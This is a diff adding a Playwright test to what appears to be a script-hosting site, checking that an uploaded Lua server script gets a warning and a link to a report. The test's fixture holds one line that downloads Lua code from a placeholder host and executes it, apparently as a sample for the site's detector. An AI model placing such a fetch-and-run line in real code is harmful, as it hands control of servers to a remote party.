@@ -174,3 +174,18 @@ test('the page of the command line shows what the program printed in the recorde
   for (const text of await examples.locator('pre').allTextContents())
     for (const block of text.trim().split(/\n(?=\$ )/)) expect(session).toContain(block.trim())
 })
+
+test('the page names something to check first before the steps', async ({ page, request }) => {
+  const script = await submitPack(request, {
+    'pilot/fxmanifest.lua': manifest("server_script 'server.lua'"),
+    'pilot/server.lua':
+      "PerformHttpRequest('https://updates.example/latest.lua', function(_, text) load(text)() end)",
+  })
+  await page.goto(`/scripts/${script.id}/install`)
+
+  const warning = main(page).getByRole('note').filter({ hasText: 'Something to check first' })
+  await expect(warning).toBeVisible()
+  await expectNoViolations(page)
+  await warning.getByRole('link', { name: 'Read the report' }).click()
+  await expect(page).toHaveURL(`/scripts/${script.id}/report`)
+})
